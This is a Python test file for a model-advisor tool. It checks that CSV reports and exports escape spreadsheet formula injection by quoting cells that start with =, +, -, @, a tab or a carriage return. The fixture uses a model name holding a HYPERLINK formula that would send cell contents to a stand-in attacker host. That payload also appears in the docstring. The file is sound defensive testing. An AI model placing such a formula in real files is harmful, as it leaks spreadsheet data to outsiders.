"""A CSV the advisor writes is opened in a spreadsheet, where a cell starting with = + - @ (or a tab or carriage
return) runs as a formula: a model named ``=HYPERLINK("http://evil.example/?leak="&A1, ...)`` in a catalog would
send the sheet's cells away when clicked. Every such text is written with a leading single quote (OWASP's advice),
in the report's candidates.csv and in 'advisor runs export'. A real sweep of a real model under that name."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from advisor.formatting import FORMULA_STARTS, spreadsheet_text

REPO = Path(__file__).resolve().parents[2]
RETRIEVAL = REPO / "data" / "rt-reviews-plots"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"wordllama")'


def advisor(*args: str) -> subprocess.CompletedProcess:
    script = Path(sys.executable).parent / "advisor"
    base = [str(script)] if script.exists() else [sys.executable, "-m", "advisor.cli"]
    done = subprocess.run(base + list(args), env={**os.environ, "HF_HUB_OFFLINE": "1"}, capture_output=True,
                          text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    return done


@pytest.fixture(scope="module")
def swept(tmp_path_factory) -> tuple[Path, Path]:
    """(catalog, store): the shipped wordllama model under a formula's name, evaluated on rt-reviews-plots."""
    if not (RETRIEVAL / "queries.jsonl").exists():
        pytest.skip("data/rt-reviews-plots not built")
    base = tmp_path_factory.mktemp("formula")
    catalog = base / "catalog.yaml"
    name = EVIL.replace("'", "''")
    catalog.write_text(f"""models:
  - name: '{name}'
    source: package:wordllama/weights/l2_supercat_256.safetensors
    backend: static
    license: MIT
    languages: [eng-Latn]
    n_parameters: 8192000
    embed_dim: 256
    max_tokens: 512
    pooling: mean
    normalize: true
    weights_format: safetensors
    options: {{format: wordllama, config: l2_supercat}}
""", encoding="utf-8")
    store = base / "s.sqlite"
    advisor("run", "--catalog", str(catalog), "--dataset", str(RETRIEVAL), "--store", str(store), "--no-cost")
    return catalog, store


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_a_model_name_cannot_inject_a_formula_into_candidates_csv(swept, tmp_path):
    catalog, store = swept
    advisor("report", "--store", str(store), "--catalog", str(catalog), "--out", str(tmp_path), "--format", "csv")
    cells = _cells(tmp_path / "candidates.csv")
    assert "'" + EVIL in cells and not _formulas(cells)


def test_a_model_name_cannot_inject_a_formula_into_an_exported_table(swept, tmp_path):
    _, store = swept
    advisor("runs", "export", "--store", str(store), "--out-file", str(tmp_path / "cells.csv"))
    cells = _cells(tmp_path / "cells.csv")
    assert "'" + EVIL in cells and not _formulas(cells)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_spreadsheet_text_quotes_what_a_spreadsheet_would_run(text):
    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text(-1.5) == -1.5 and spreadsheet_text("all-MiniLM-L6-v2") == "all-MiniLM-L6-v2"
